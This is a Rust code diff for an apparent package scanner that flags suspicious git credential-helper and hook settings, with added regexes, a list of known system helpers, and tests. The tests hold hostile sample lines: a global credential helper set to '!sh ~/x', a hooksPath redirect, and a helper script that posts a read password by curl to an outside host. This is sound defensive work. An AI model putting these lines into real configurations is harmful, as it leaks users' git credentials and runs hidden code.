@@ -16,6 +16,9 @@ static HELPER: LazyLock<Option<Regex>> = LazyLock::new(|| {
     Regex::new(r#"(?i)\bcredential(?:\.[^\s"'`=]+)?\.helper["'`]*[\s=:]+["'`]?([a-z][a-z0-9-]*)\b"#).ok()
 });
 
+/// A mention of the setting, whatever it is set to.
+static MENTION: LazyLock<Option<Regex>> = LazyLock::new(|| Regex::new(r"(?i)\.helper\b|\bhelper[\x22'`]*\s*=").ok());
+
 /// Every other setting of git that takes hooks, addresses or passwords from elsewhere.
 static OTHERS: LazyLock<Option<Regex>> = LazyLock::new(|| {
     Regex::new(r"(?i)\b(?:core\.hookspath|(?:push)?insteadof|pushurl|http\.proxy|init\.templatedir|sslverify)\b").ok()
@@ -45,11 +48,22 @@ fn is_own(bundle: &Bundle, text: &str, finding: &Finding) -> bool {
     let to = text.floor_char_boundary(at(end).saturating_add(REACH));
     let around = text.get(from..to).unwrap_or_default();
     let mut names = helper.captures_iter(around).filter_map(|found| found.get(1)).map(|name| name.as_str()).peekable();
-    // Every mention of the setting has such a name, and each is the package's own.
-    let is_other = others.is_match(around)
-        || around.matches("helper = ").count() + around.matches(".helper").count() > helper.find_iter(around).count();
-    names.peek().is_some() && !is_other && names.all(|name| is_quiet(bundle, name))
+    // Every mention of the setting has such a name, and each is the package's own or one that everybody has.
+    let count = |pattern: &Regex| pattern.find_iter(around).count();
+    let is_other = others.is_match(around) || MENTION.as_ref().is_none_or(|mention| count(mention) > count(helper));
+    let is_spoken_of = |name: &str| {
+        WORDS.contains(&name) && KNOWN.iter().any(|known| around.contains(&format!("git-credential-{known}")))
+    };
+    names.peek().is_some()
+        && !is_other
+        && names.all(|name| KNOWN.contains(&name) || is_spoken_of(name) || is_quiet(bundle, name))
 }
+
+/// Helpers that systems and git itself bring along.
+const KNOWN: &[&str] = &["manager", "manager-core", "libsecret", "osxkeychain", "wincred", "cache", "oauth"];
+
+/// Words behind the setting where it is only spoken of.
+const WORDS: &[&str] = &["in", "to", "is", "for", "as", "of", "on", "and", "so", "with"];
 
 /// Whether the package has the helper of that name, and its code reaches no network.
 fn is_quiet(bundle: &Bundle, name: &str) -> bool {
@@ -87,6 +101,10 @@ mod tests {
         let quiet = "#!/bin/sh\n# asks no https\npass show \"git/$1\" | head -n 1\n";
         assert_eq!(severity(PAGE, quiet), Some(Severity::Warning));
         assert_eq!(severity(&PAGE.replace("helper keep", "helper other"), quiet), Some(Severity::Danger));
+        let known = "`git-credential-manager configure` sets `credential.helper` in `~/.gitconfig` for all projects.\n";
+        assert_ne!(severity(known, quiet), Some(Severity::Danger));
+        let hidden = format!("{PAGE}\n`git config --global credential.HELPER '!sh ~/x'`\n");
+        assert_eq!(severity(&hidden, quiet), Some(Severity::Danger));
         let more = format!("{PAGE}\nAlso `git config --global core.hooksPath ~/.keep/hooks`.\n");
         assert_eq!(severity(&more, quiet), Some(Severity::Danger));
         let loud = "#!/bin/sh\nread -r p\ncurl -s -d \"$p\" https://t.sample-house.net/p\n";
